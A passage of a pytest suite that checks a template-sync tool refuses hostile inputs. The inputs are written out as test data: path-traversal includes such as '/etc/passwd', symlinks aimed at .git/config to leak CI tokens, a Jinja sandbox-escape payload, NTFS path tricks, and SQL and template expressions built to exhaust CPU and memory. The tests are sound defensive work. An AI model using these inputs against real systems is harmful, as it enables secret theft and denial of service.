    (repo / ORCH).symlink_to("real", target_is_directory=True)
    (repo / "pkg" / "real" / "plain.txt").write_text("edited\n")
    proc = run("sync", "--root", repo, cwd=tmp_path)
    assert proc.returncode == 0, (proc.stdout, proc.stderr)
    assert (repo / "pkg" / "real" / "plain.txt").read_text() != "edited\n"
    assert (repo / ORCH).is_symlink()


def test_templates_folder_symlinked_outside_is_refused(repo: Path, tmp_path: Path) -> None:
    shutil.move(repo / "templates", tmp_path / "elsewhere")
    (repo / "templates").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, "templates", "outside")


@pytest.mark.parametrize(
    "include", ["../../pyproject.toml", "/etc/passwd", "../orch/plain.txt.j2", "orch/../../x"]
)
def test_include_outside_the_templates_folder_says_so(
    repo: Path, tmp_path: Path, include: str
) -> None:
    template = repo / TEMPLATES / "hello.py.j2"
    template.write_text(f'{{% include "{include}" %}}\n' + template.read_text())
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, "outside the templates folder")
    assert "no template" not in proc.stderr


def test_include_symlinked_outside_is_refused(repo: Path, tmp_path: Path, outside: Path) -> None:
    (repo / "templates/partials/header.j2").unlink()
    (repo / "templates/partials/header.j2").symlink_to(outside)
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, "partials/header.j2", "outside")
    assert "TOP SECRET" not in proc.stdout + proc.stderr


@pytest.mark.parametrize("target", ["../partials/header.j2/", "../partials/header.j2/.."])
def test_an_included_link_that_does_not_open_is_named_as_its_file(
    repo: Path, tmp_path: Path, target: str
) -> None:
    # An include of templates/orch/l.j2 -> ../partials/header.j2/ (ENOTDIR) said `error: cannot
    # read templates/template 'orch/l.j2': Not a directory`, a file that does not exist, and
    # its GitHub annotation named no file. Such a link is missing, as Jinja2's loader finds it:
    # the error names the include and says what the link is.
    template = repo / TEMPLATES / "hello.py.j2"
    template.write_text("{% include 'orch/l.j2' %}\n" + template.read_text())
    (repo / TEMPLATES / "l.j2").symlink_to(target)
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc)
    assert proc.stderr == (
        "error: templates/orch/hello.py.j2:1: includes 'orch/l.j2', which is a symlink that does "
        "not open: its target names a file as a folder (a '/' after a file's name)\n"
    )
    proc = run("sync-check", "--root", repo, "--no-cache", "--format", "github", cwd=tmp_path)
    assert proc.stdout.startswith("::error file=templates/orch/hello.py.j2,line=1,")


LINKED_USES = {
    "include": "{% include 'partials/l.j2' %}",
    "extends": "{% extends 'partials/l.j2' %}",
    "import": "{% import 'partials/l.j2' as m %}{{ m.x() }}",
    "from-import": "{% from 'partials/l.j2' import x %}{{ x() }}",
}
LINKED_BODIES = {
    "syntax": ("{% if %}", "templates/partials/l.j2:1: Expected an expression"),
    "runtime": ("{% macro x() %}{{ 1 / 0 }}{% endmacro %}{{ 1 / 0 }}", "l.j2:1: ZeroDivision"),
    "sandbox": ("{% macro x() %}{{ ''.__class__ }}{% endmacro %}{{ ''.__class__ }}", "l.j2:1: "),
}


@pytest.mark.parametrize("link", ["file", "chain", "folder"])
@pytest.mark.parametrize(("body", "said"), LINKED_BODIES.values(), ids=LINKED_BODIES)
@pytest.mark.parametrize("use", LINKED_USES.values(), ids=LINKED_USES)
def test_an_error_in_a_linked_template_names_it_as_the_template_does(
    repo: Path, tmp_path: Path, use: str, body: str, said: str, link: str
) -> None:
    # partials/l.j2 -> real.j2, included (extended, imported): its error was said to be in
    # templates/partials/real.j2, a name no template wrote (the annotation's file= too).
    template = repo / TEMPLATES / "hello.py.j2"
    template.write_text(use + "\n" + template.read_text())
    partials = repo / "templates" / "partials"
    (partials / "real.j2").write_text(body + "\n")
    if link == "folder":  # partials -> other, other/l.j2 -> real.j2
        partials.rename(repo / "templates" / "other")
        (repo / "templates" / "other" / "l.j2").symlink_to("real.j2")
        partials.symlink_to("other", target_is_directory=True)
    elif link == "chain":
        (partials / "c.j2").symlink_to("real.j2")
        (partials / "l.j2").symlink_to("c.j2")
    else:
        (partials / "l.j2").symlink_to("real.j2")
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, "error: templates/partials/l.j2:1: ", said)
    assert "real.j2" not in proc.stderr
    proc = run("sync-check", "--root", repo, "--no-cache", "--format", "github", cwd=tmp_path)
    assert proc.stdout.startswith("::error file=templates/partials/l.j2,line=1,"), proc.stdout


@pytest.mark.parametrize("target", [".git/config", ".tac-bootstrap.json"])
def test_a_generated_file_linked_to_git_or_the_answers_is_refused(
    tmp_path: Path, target: str
) -> None:
    # README.md -> .git/config in a generated project: `sync-check` passed (exit 0) and its
    # note's diff showed git's config, the CI job's token with it.
    from tac_bootstrap import scaffold
    from tac_bootstrap.spec import ProjectSpec

    project = tmp_path / "project"
    scaffold.init(ProjectSpec.build("linked-app"), project)
    (project / ".git").mkdir()
    (project / ".git/config").write_text("[core]\n\ttoken = TOP SECRET\n")
    (project / "README.md").unlink()
    (project / "README.md").symlink_to(target)
    for fmt in ("text", "json"):
        proc = run("sync-check", "--root", project, "--format", fmt, cwd=tmp_path)
        assert_one_error(proc, "'README.md' is ", f"(through a symlink: {target})")
        assert "TOP SECRET" not in proc.stdout + proc.stderr


GIT_READS: dict[str, tuple[str, str | None, str | None, str, str]] = {
    # name: (the templates folder, a link to make, its target, the git folder, what is included)
    "git-config": (".", None, None, ".git", ".git/config"),
    "dot": (".", None, None, ".git", "./.git/config"),
    "linked-folder": (".", "lnk", ".git", ".git", "lnk/config"),
    "nested-repository": ("templates", None, None, "templates/vendor/.git", "vendor/.git/config"),
    "linked-git": (".", ".git", "realgit", "realgit", "realgit/config"),
}


@pytest.mark.parametrize(
    ("case", "tag"),
    [
        *((case, "include") for case in sorted(GIT_READS)),
        ("git-config", "import"),
        ("git-config", "extends"),
    ],
)
@pytest.mark.parametrize("command", [("sync-check", "--no-cache"), ("sync",)])
def test_a_template_cannot_read_a_git_folder(
    tmp_path: Path, case: str, tag: str, command: tuple[str, ...]
) -> None:
    # actions/checkout leaves the job's token in .git/config: a drift's diff printed it.
    templates, link, target, git, include = GIT_READS[case]
    root = tmp_path / "repo"
    (root / git).mkdir(parents=True)
    (root / git / "config").write_text("[http]\n\textraheader = AUTHORIZATION: basic c2VjcmV0\n")
    if link is not None and target is not None:
        (root / link).symlink_to(target)
    (root / "templates").mkdir(exist_ok=True)
    (root / "pkg").mkdir()
    (root / "pkg/a.txt").write_text("A\n")
    text = f'{{% import "{include}" as m %}}' if tag == "import" else f'{{% {tag} "{include}" %}}'
    (root / templates / "a.txt.j2").write_text(f"A\n{text}\n")
    (root / "pyproject.toml").write_text(
        f'[tool.tac-bootstrap.sync]\ntemplates = "{templates}"\n'
        '[[tool.tac-bootstrap.sync.pairs]]\nbase = "pkg/a.txt"\ntemplate = "a.txt.j2"\n'
    )
    before = snapshot(root)
    proc = run(*command, "--root", root, cwd=tmp_path)
    assert_one_error(proc, repr(include), "git folder")
    assert "c2VjcmV0" not in proc.stdout + proc.stderr
    assert snapshot(root) == before


def test_include_of_a_missing_template_names_it(repo: Path, tmp_path: Path) -> None:
    template = repo / TEMPLATES / "hello.py.j2"
    template.write_text('{% include "partials/gone.j2" %}\n' + template.read_text())
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(
        proc, "templates/orch/hello.py.j2:1", "includes 'partials/gone.j2', which does not exist"
    )


@pytest.mark.parametrize(
    ("make", "kind"),
    [
        (lambda p: p.mkdir(), "a folder"),
        (os.mkfifo, "a FIFO"),
        (lambda p: p.symlink_to("nowhere.j2"), "a symlink that leads nowhere or loops"),
    ],
    ids=["folder", "fifo", "dangling"],
)
@pytest.mark.parametrize("tag", ["include", "import", "extends"])
def test_an_included_template_that_is_not_a_file_is_named_for_what_it_is(
    repo: Path, tmp_path: Path, make: Callable[[Path], None], kind: str, tag: str
) -> None:
    make(repo / "templates/partials/odd.j2")
    template = repo / TEMPLATES / "hello.py.j2"
    tag_text = (
        '{% import "partials/odd.j2" as odd %}'
        if tag == "import"
        else f'{{% {tag} "partials/odd.j2" %}}'
    )
    template.write_text(tag_text + "\n" + template.read_text())
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, f"includes 'partials/odd.j2', which is not a regular file ({kind})")


@pytest.mark.parametrize(
    "templates",
    [
        {"orch/hello.py.j2": '{% include "orch/hello.py.j2" %}'},
        {
            "orch/hello.py.j2": '{% include "partials/a.j2" %}',
            "partials/a.j2": '{% include "partials/b.j2" %}',
            "partials/b.j2": '{% include "partials/a.j2" %}',
        },
        {
            "orch/hello.py.j2": '{% extends "partials/a.j2" %}',
            "partials/a.j2": '{% extends "partials/b.j2" %}',
            "partials/b.j2": '{% extends "partials/a.j2" %}',
        },
        {"orch/hello.py.j2": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}"},
    ],
    ids=["includes-itself", "include-cycle", "extends-cycle", "recursive-macro"],
)
def test_recursion_is_an_error_not_a_traceback(
    repo: Path, tmp_path: Path, templates: dict[str, str]
) -> None:
    for name, text in templates.items():
        (repo / "templates" / name).write_text(text)
    for command in (["sync-check", "--no-cache"], ["sync"]):
        proc = run(*command, "--root", repo, cwd=tmp_path)
        assert_one_error(proc, "recursion")


def test_template_cannot_reach_python_internals(repo: Path, tmp_path: Path) -> None:
    template = repo / TEMPLATES / "hello.py.j2"
    template.write_text("{{ cycler.__init__.__globals__.os._exit(0) }}\n")
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, "templates/orch/hello.py.j2", "unsafe")


# --- bytes that are not UTF-8 ---------------------------------------------------------------

NOT_UTF8 = b"\xff\xfe not UTF-8\n"


@pytest.mark.parametrize(
    ("path", "named"),
    [
        ("templates/orch/plain.txt.j2", "plain.txt.j2"),
        ("templates/partials/header.j2", "partials/header.j2"),
        ("pkg/orch/plain.txt", "pkg/orch/plain.txt"),
    ],
)
def test_not_utf8_is_refused_by_check_and_sync(
    repo: Path, tmp_path: Path, path: str, named: str
) -> None:
    (repo / path).write_bytes(NOT_UTF8)
    before = snapshot(repo)
    for command in (["sync-check", "--no-cache"], ["sync"], ["sync", "--from", "base"]):
        proc = run(*command, "--root", repo, cwd=tmp_path)
        assert_one_error(proc, named, "not UTF-8")
        assert "\ufffd" not in proc.stdout
    assert snapshot(repo) == before


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        ('base = "pkg/orch/models.py"', 'base = "pkg/orch/mod\\u0000els.py"', "NUL byte"),
        ('template = "orch/models.py.j2"', 'template = "orch/models\\u0000.py.j2"', "NUL byte"),
        ('base_globs = ["pkg/orch/*"]', 'base_globs = ["pkg/\\u0000orch/*"]', "NUL bytes"),
        (
            "[tool.tac-bootstrap.sync.context]",
            "[tool.tac-bootstrap.sync.context]\nbig = 1" + "0" * 5000,
            "TOML",
        ),
        ('base = "pkg/orch/plain.txt"', f'base = "pkg/orch/{"a" * 300}"', "longer than file"),
        ('base = "pkg/orch/plain.txt"', 'base = "' + "d/" * 3000 + 'x"', "longer than file"),
        ('template = "orch/plain.txt.j2"', f'template = "orch/{"a" * 300}"', "longer than"),
        ('templates = "templates"', f'templates = "{"t" * 300}"', "longer than file"),
    ],
    ids=[
        "nul-in-base",
        "nul-in-template",
        "nul-in-glob",
        "5000-digit-integer",
        "long-name",
        "deep-path",
        "long-template",
        "long-templates-folder",
    ],
)
def test_a_manifest_no_file_system_or_parser_takes_is_refused(
    repo: Path, tmp_path: Path, old: str, new: str, message: str
) -> None:
    manifest = repo / "pyproject.toml"
    assert old in manifest.read_text()
    manifest.write_text(manifest.read_text().replace(old, new, 1))
    before = snapshot(repo)
    for command in (["sync-check", "--no-cache"], ["sync"]):
        proc = run(*command, "--root", repo, cwd=tmp_path)
        assert_one_error(proc, "pyproject.toml", message)
    assert snapshot(repo) == before


@pytest.mark.parametrize("name", ["schema.sql", "database.py"])
def test_not_utf8_schema_or_database_module_is_refused(
    repo: Path, tmp_path: Path, name: str
) -> None:
    (repo / ORCH / name).write_bytes(NOT_UTF8)
    (repo / TEMPLATES / f"{name}.j2").write_bytes(b"{% raw %}" + NOT_UTF8 + b"{% endraw %}")
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, name, "not UTF-8")


def test_a_database_module_too_deep_for_the_parser_is_one_problem(
    repo: Path, tmp_path: Path
) -> None:
    deep = "\nx = 1" + " + 1" * 300_000 + "\n"  # ast.parse raises RecursionError on it
    both(repo, "database.py", lambda text: text + deep)
    proc = script("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert "not valid Python: nested too deeply or too large to parse" in proc.stdout
    assert "Traceback" not in proc.stderr


# --- sync where it cannot write --------------------------------------------------------------


def no_tmp_left(root: Path) -> None:
    assert [p for p in root.rglob("*") if p.name.endswith(".tmp")] == []


def test_sync_where_the_base_is_a_folder(repo: Path, tmp_path: Path) -> None:
    (repo / ORCH / "plain.txt").unlink()
    (repo / ORCH / "plain.txt").mkdir()
    before = snapshot(repo)
    for command in (["sync"], ["sync-check", "--no-cache"]):
        proc = run(*command, "--root", repo, cwd=tmp_path)
        assert_one_error(proc, "pkg/orch/plain.txt", "not a regular file")
    assert snapshot(repo) == before
    no_tmp_left(repo)


def test_sync_where_a_parent_of_the_base_is_a_file(repo: Path, tmp_path: Path) -> None:
    toml = repo / "pyproject.toml"
    toml.write_text(
        toml.read_text().replace(
            'base = "pkg/orch/plain.txt"', 'base = "pkg/orch/plain.txt/inner.txt"'
        )
    )
    (repo / ORCH / "plain.txt").write_text("a file, not a folder\n")
    before = snapshot(repo)
    proc = run("sync", "--root", repo, cwd=tmp_path)
    assert_one_error(proc, "pkg/orch/plain.txt")
    assert snapshot(repo) == before
    no_tmp_left(repo)


@pytest.mark.needs_unprivileged
@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_sync_into_a_read_only_root(repo: Path, tmp_path: Path) -> None:
    (repo / ORCH / "plain.txt").write_text("edited\n")
    before = snapshot(repo)
    (repo / ORCH).chmod(0o555)
    try:
        proc = script("sync", "--root", repo, cwd=tmp_path)
    finally:
        (repo / ORCH).chmod(0o755)
    assert_one_error(proc, "pkg/orch/plain.txt", "cannot write")
    assert snapshot(repo) == before
    no_tmp_left(repo)


def _can_mount_read_only(tmp_path: Path) -> bool:
    """Whether a private mount namespace with a read-only bind mount can be made here."""
    if not hasattr(os, "geteuid") or os.geteuid() != 0 or shutil.which("unshare") is None:
        return False
    (tmp_path / "probe").mkdir()
    proc = subprocess.run(
        ["unshare", "--mount", "--propagation", "private", "sh", "-c", READ_ONLY + "true"],
        capture_output=True,
        check=False,
        cwd=tmp_path,
        env={**os.environ, "RO": str(tmp_path / "probe")},
    )
    return proc.returncode == 0


# In a mount namespace of its own (nothing left mounted if the test is killed): $RO read-only.
READ_ONLY = 'mount --bind -o ro "$RO" "$RO" && '


@pytest.mark.parametrize("command", ["sync", "update", "init"])
def test_a_read_only_file_system_is_named_as_such(repo: Path, tmp_path: Path, command: str) -> None:
    """os.access only says no: a read-only file system was reported as "Permission denied"."""
    if not _can_mount_read_only(tmp_path):
        pytest.skip("needs root and a mount namespace of its own (unshare)")
    if command == "sync":
        (repo / ORCH / "plain.txt").write_text("edited\n")
        args, read_only, named = ["sync", "--root", repo], repo, "pkg/orch/plain.txt"
    elif command == "update":  # a project of the last release: update rewrites its answers
        assert run("init", "p", cwd=tmp_path).returncode == 0
        edit_answers(tmp_path / "p", lambda answers: answers.update(version="0.4.1"))
        args, read_only, named = ["update", "--root", "p"], tmp_path / "p", "cannot write"
    else:
        read_only = tmp_path / "read-only"
        read_only.mkdir()
        args, named = ["init", "p", "-o", read_only / "p"], str(read_only)
    before = snapshot(read_only)
    namespace = ["unshare", "--mount", "--propagation", "private"]
    proc = subprocess.run(
        [*namespace, "sh", "-c", READ_ONLY + 'exec "$@"', "sh", EXE, *map(str, args)],
        capture_output=True,
        text=True,
        check=False,
        cwd=tmp_path,
        env={**os.environ, "RO": str(read_only), "TAC_BOOTSTRAP_CACHE_DIR": str(tmp_path / "c")},
    )
    assert_one_error(proc, named, "Read-only file system")
    assert snapshot(read_only) == before


def test_sync_keeps_the_extended_attributes_of_a_file_it_rewrites(
    repo: Path, tmp_path: Path, set_user_xattr: Callable[[Path], None]
) -> None:
    """The rename put a new file in its place: its user.* attributes were lost."""
    plain = repo / ORCH / "plain.txt"
    synced = plain.read_bytes()
    plain.write_text("edited\n")
    set_user_xattr(plain)
    proc = run("sync", "--root", repo, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert plain.read_bytes() == synced
    assert os.getxattr(plain, "user.origin") == b"kept"


def test_sync_write_failure_leaves_no_tmp_file(repo: Path, tmp_path: Path) -> None:
    """As root, a read-only folder does not stop a write: a full disk stands in for it."""
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full")
    (repo / ORCH / "plain.txt").unlink()
    (repo / ORCH / "plain.txt").symlink_to("/dev/full")
    proc = script("sync", "--root", repo, cwd=tmp_path)
    assert_one_error(proc, "pkg/orch/plain.txt")
    no_tmp_left(repo)


def test_sync_from_base_with_a_folder_as_template(repo: Path, tmp_path: Path) -> None:
    (repo / ORCH / "plain.txt").write_text("edited\n")
    (repo / TEMPLATES / "plain.txt.j2").unlink()
    (repo / TEMPLATES / "plain.txt.j2").mkdir()
    before = snapshot(repo)
    proc = script("sync", "--from", "base", "--root", repo, cwd=tmp_path)
    assert_one_error(proc, "templates/orch/plain.txt.j2")
    assert snapshot(repo) == before


def test_sync_plans_everything_before_writing(repo: Path, tmp_path: Path) -> None:
    (repo / ORCH / "plain.txt").write_text("edited\n")  # a change sync would make ...
    (repo / TEMPLATES / "models.py.j2").write_text("{{ undefined_name }}\n")  # ... and a failure
    before = snapshot(repo)
    proc = run("sync", "--root", repo, cwd=tmp_path)
    assert_one_error(proc, "undefined_name")
    assert snapshot(repo) == before


# --- output on exit 2 -----------------------------------------------------------------------


def test_json_on_exit_2_is_a_document_with_ok_false(repo: Path, tmp_path: Path) -> None:
    both(repo, "schema.sql", lambda text: text + "ATTACH 'x.db' AS x;\n")
    proc = script("sync-check", "--root", repo, "--format", "json", cwd=tmp_path)
    assert proc.returncode == 2
    data = json.loads(proc.stdout)
    assert data["ok"] is False
    assert data["version"] == 1
    assert "refused to load the schema" in data["error"]


def test_github_annotates_an_exit_2_error_on_its_file(repo: Path, tmp_path: Path) -> None:
    (repo / TEMPLATES / "plain.txt.j2").write_bytes(NOT_UTF8)
    summary = tmp_path / "summary.md"
    proc = script(
        "sync-check",
        "--root",
        repo,
        "--format",
        "github",
        "--no-cache",
        cwd=tmp_path,
        env={"GITHUB_STEP_SUMMARY": str(summary)},
    )
    assert proc.returncode == 2
    assert proc.stdout.startswith(
        "::error file=templates/orch/plain.txt.j2,title=sync-check could not run::"
    )
    assert "not UTF-8" in summary.read_text()


def test_github_annotation_of_a_long_diff_is_cut_and_the_summary_has_it_all(
    repo: Path, tmp_path: Path
) -> None:
    (repo / ORCH / "plain.txt").write_text("".join(f"line {i} {'x' * 500}\n" for i in range(200)))
    summary = tmp_path / "summary.md"
    proc = run(
        "sync-check",
        "--root",
        repo,
        "--format",
        "github",
        "--no-cache",
        cwd=tmp_path,
        env={"GITHUB_STEP_SUMMARY": str(summary)},
    )
    assert proc.returncode == 1
    assert max(len(line) for line in proc.stdout.splitlines()) < 20_000
    assert "more diff lines in the job summary" in proc.stdout
    assert summary.read_text().count("x" * 500) == 200


def test_a_step_summary_stays_under_github_s_limit(repo: Path, tmp_path: Path) -> None:
    """GitHub drops a step summary over 1 MiB whole: 20,000 orphans made 2.9 MB."""
    for i in range(3000):
        (repo / ORCH / f"orphan_{i:04}_{'o' * 200}.txt").write_text("x\n")
    proc, text = github_summary(repo, tmp_path)
    assert proc.returncode == 1
    assert len(text.encode()) <= 1 << 20
    shown = text.count("**orphan-base**")
    assert 1000 < shown < 3000
    assert text.endswith(
        f"*{3000 - shown} more problem(s) and note(s) not shown: a step summary holds at most "
        "1 MiB: run `tac-bootstrap sync-check` to see every one.*\n"
    )


def test_github_annotates_a_template_edit_on_the_template(repo: Path, tmp_path: Path) -> None:
    assert run("sync-check", "--root", repo, cwd=tmp_path).returncode == 0
    template = repo / TEMPLATES / "plain.txt.j2"
    template.write_text(template.read_text().replace("Plain", "Fancy"))
    proc = run("sync-check", "--root", repo, "--format", "github", cwd=tmp_path)
    assert proc.returncode == 1
    files = [line.split(",")[0] for line in proc.stdout.splitlines()]
    assert files == ["::error file=templates/orch/plain.txt.j2"]


# --- a generated project's answers file -------------------------------------------------------


@pytest.fixture(scope="module")
def made_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project ``init my-app`` made through the script, once for the module's cases."""
    where = tmp_path_factory.mktemp("made")
    proc = script("init", "my-app", cwd=where)
    assert proc.returncode == 0, proc.stderr
    return where / "my-app"


@pytest.fixture
def project(tmp_path: Path, made_project: Path) -> Path:
    """A copy of :func:`made_project` (modes and times kept) for one case to change."""
    shutil.copytree(made_project, tmp_path / "my-app", symlinks=True)
    return tmp_path / "my-app"


def edit_answers(project: Path, change: Callable[[dict[str, object]], None]) -> None:
    path = project / ".tac-bootstrap.json"
    answers = json.loads(path.read_text())
    change(answers)
    path.write_text(json.dumps(answers))


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda a: a.update(name="os"), "would shadow the standard-library module 'os'"),
        (lambda a: a.update(name="typing-extensions"), "depends on"),
        (lambda a: a["data"].update(version='1.0"'), "is not a version"),
        (lambda a: a.update(data=[]), "data"),
        (
            lambda a: a["files"].update({"README.md": "not-a-sha"}),
            "the sha256 of 'README.md' is malformed ('not-a-sha')",
        ),
        (
            lambda a: a["files"].update({"README.md": "A" * 64}),
            "is malformed",
        ),
        (lambda a: a.update(name="a\x00b"), "NUL"),
    ],
    ids=[
        "stdlib-name",
        "dependency-name",
        "quote-in-version",
        "data-not-a-table",
        "bad-sha",
        "upper-sha",
        "nul-in-name",
    ],
)
@pytest.mark.parametrize("command", [("sync-check", "--root", ".", "--no-cache"), ("update",)])
def test_bad_answers_file_is_named(
    project: Path,
    change: Callable[[dict[str, object]], None],
    message: str,
    command: tuple[str, ...],
) -> None:
    edit_answers(project, change)
    before = snapshot(project)
    proc = run(*command, cwd=project)
    assert_one_error(proc, ".tac-bootstrap.json", message)
    assert proc.stdout == ""
    assert snapshot(project) == before


@pytest.mark.parametrize("command", [("sync-check", "--root", ".", "--no-cache"), ("update",)])
def test_a_generated_file_named_with_a_nul_byte_is_refused(
    project: Path, command: tuple[str, ...]
) -> None:
    edit_answers(project, lambda a: a["files"].update({"a\x00b": "0" * 64}))  # type: ignore[attr-defined]
    before = snapshot(project)
    proc = run(*command, cwd=project)
    assert_one_error(proc, "is not a safe path inside the project")
    assert snapshot(project) == before


@pytest.mark.parametrize(
    ("key", "entry"),
    [
        ("files", ".tac-bootstrap.json"),
        ("files", ".git/config"),
        ("deleted", ".git/hooks/pre-commit"),
        ("conflicts", ".tac-bootstrap.json"),
        ("conflicts", ".Git/config"),
        ("deleted", ".tac-bootstrap/backup/0.1.0-0.2.0/README.md"),
        ("files", "GIT~1/config"),
        ("deleted", ".g\u200cit/hooks/pre-commit"),
        ("files", ".git::$INDEX_ALLOCATION/config"),
    ],
)
@pytest.mark.parametrize("command", [("sync-check", "--root", ".", "--no-cache"), ("update",)])
def test_answers_naming_itself_or_git_or_backups_is_refused(
    project: Path, key: str, entry: str, command: tuple[str, ...]
) -> None:
    git = project / ".git"
    (git / "hooks").mkdir(parents=True)
    (git / "config").write_text("[core]\n")
    (git / "hooks" / "pre-commit").write_text("#!/bin/sh\n")

    def name(answers: dict[str, object]) -> None:
        if key == "files":
            answers["files"][entry] = "0" * 64  # type: ignore[index]
        else:
            answers[key] = [entry]

    edit_answers(project, name)
    before = snapshot(project)
    proc = run(*command, cwd=project)
    assert_one_error(proc, ".tac-bootstrap.json", f"{key}: {entry!r}", "not a generated file")
    assert snapshot(project) == before


@pytest.mark.parametrize("command", [("sync-check", "--root", ".", "--no-cache"), ("update",)])
def test_answers_listing_more_files_than_any_project_has_is_refused(
    project: Path, command: tuple[str, ...]
) -> None:
    edit_answers(project, lambda a: a.update(deleted=[f"gen/f{n}.py" for n in range(300_000)]))
    before = snapshot(project)
    proc = run(*command, cwd=project)
    assert_one_error(proc, ".tac-bootstrap.json", "deleted: 300,000 paths, more than 10,000")
    assert snapshot(project) == before


@pytest.mark.parametrize("command", [("sync-check", "--root", ".", "--no-cache"), ("update",)])
def test_answers_file_with_a_key_twice_is_refused(project: Path, command: tuple[str, ...]) -> None:
    path = project / ".tac-bootstrap.json"
    path.write_text(path.read_text().rstrip()[:-1] + ', "version": "0.1.0"}\n')
    before = snapshot(project)
    proc = run(*command, cwd=project)
    assert_one_error(proc, ".tac-bootstrap.json", "'version' is given twice")
    assert snapshot(project) == before


@pytest.mark.parametrize(
    "version",
    ["9" * 5000, "0.1.x"],
    ids=["5000-digits", "0.1.x"],  # short: see PYTEST_CURRENT_TEST
)
def test_update_names_the_answers_file_whose_version_is_not_one(
    project: Path, version: str
) -> None:
    edit_answers(project, lambda a: a.update(version=version))
    before = snapshot(project)
    proc = run("update", cwd=project)
    assert_one_error(proc, ".tac-bootstrap.json", "is not a version")
    assert snapshot(project) == before


def test_answers_file_that_is_not_json_is_named(project: Path, tmp_path: Path) -> None:
    (project / ".tac-bootstrap.json").write_bytes(b"\xff{")
    proc = script("sync-check", "--root", project, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, ".tac-bootstrap.json")


# --- what a hostile input may cost: time, memory, blocking reads ----------------------------

ROWS = "(VALUES (1), (2), (3), (4), (5), (6), (7), (8), (9), (10))"
JSON_ROWS = "json_each('[' || replace(hex(zeroblob(50000)), '00', '1,') || '1]')"
RUNAWAY = {  # a trillion rows; 125 trillion rows
    "cross-join": "CREATE TABLE boom AS SELECT 1 AS x FROM " + ", ".join([ROWS] * 12),  # noqa: S608
    "json-each": "CREATE TABLE boom AS SELECT 1 AS x FROM " + ", ".join([JSON_ROWS] * 3),  # noqa: S608
}


@pytest.mark.parametrize("attack", sorted(RUNAWAY))
def test_a_schema_statement_that_runs_away_is_stopped_and_named(
    repo: Path, tmp_path: Path, attack: str
) -> None:
    both(repo, "schema.sql", lambda text: text + RUNAWAY[attack] + ";\n")
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, "pkg/orch/schema.sql:15: stopped here, 100,000,000 SQLite steps into")


# 200 values of 9 MB: each under the value limit, 1.8 GB in all (a thousand took 9 GB).
_BIG_ROWS = (
    "SELECT zeroblob(9000000) || x'01' AS b FROM "
    "(VALUES (1), (2), (3), (4), (5), (6), (7), (8), (9), (10)) AS a, "
    "(VALUES (1), (2), (3), (4), (5), (6), (7), (8), (9), (10)) AS c, (VALUES (1), (2)) AS d"
)


def test_a_schema_that_fills_the_memory_is_stopped_and_named(repo: Path, tmp_path: Path) -> None:
    both(repo, "schema.sql", lambda text: text + f"CREATE TABLE b AS {_BIG_ROWS};\n")
    proc = script("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    # was "error: out of memory: the process's memory limit is too low" under a limit, or
    # gigabytes of the machine's memory without one
    assert_one_error(proc, "pkg/orch/schema.sql:15: stopped here, the schema used more than 1,024")


def test_a_migration_that_fills_the_memory_is_stopped_and_named(repo: Path, tmp_path: Path) -> None:
    folder = with_migrations(repo)
    (folder / "0001_big.sql").write_text(
        f"CREATE TABLE b (b);\nINSERT INTO b {_BIG_ROWS};\nPRAGMA user_version = 1;\n"
    )
    proc = script("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert "0001_big.sql: migrations: 0001 does not run after the migrations before it: " in (
        proc.stdout
    )
    assert "stopped: it used more than 1,024 MiB of memory" in proc.stdout


def test_a_schema_value_of_a_gigabyte_is_refused(repo: Path, tmp_path: Path) -> None:
    both(repo, "schema.sql", lambda text: text + "CREATE TABLE b AS SELECT randomblob(1e9) AS b;\n")
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert "string or blob too big" in proc.stdout


@pytest.mark.parametrize(
    "data", [b"CREATE TABLE a (x);\x00\n", b"CREATE TABLE a (x TEXT DEFAULT 'a\x00');\n"]
)
def test_a_nul_byte_in_the_schema_is_a_problem_with_its_line(
    repo: Path, tmp_path: Path, data: bytes
) -> None:
    for path in (repo / ORCH / "schema.sql", repo / TEMPLATES / "schema.sql.j2"):
        path.write_bytes(data)
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert "Traceback" not in proc.stderr
    assert "schema.sql:1: schema: the schema does not load into SQLite: line 1 holds a NUL" in (
        proc.stdout
    )


@pytest.mark.parametrize(
    ("template", "message"),
    [
        ("{{ 1 / 0 }}", "ZeroDivisionError: division by zero"),
        ("{{ range(10**9)|list }}", "OverflowError: Range too big"),
        ("{{ 'x' * 10**13 }}", "'*' would make 10,000,000,000,000 characters"),
        ("{{ '%*d' % (1000000000, 1) }}", "'%' would make 1,000,000,005 characters"),
        ("{{ 'x'|indent(1000000000) }}", "'indent' would make 1,000,000,000 characters"),
        ("{{ 3 ** 10000000 }}", "'**' would make an integer of 10,000,001 bits"),
        ("{{ (10 ** 400)|float }}", "OverflowError"),
        ("{{ [1]|dictsort }}", "AttributeError"),
        (
            "{% for a in [1] %}" * 30 + "x" + "{% endfor %}" * 30,
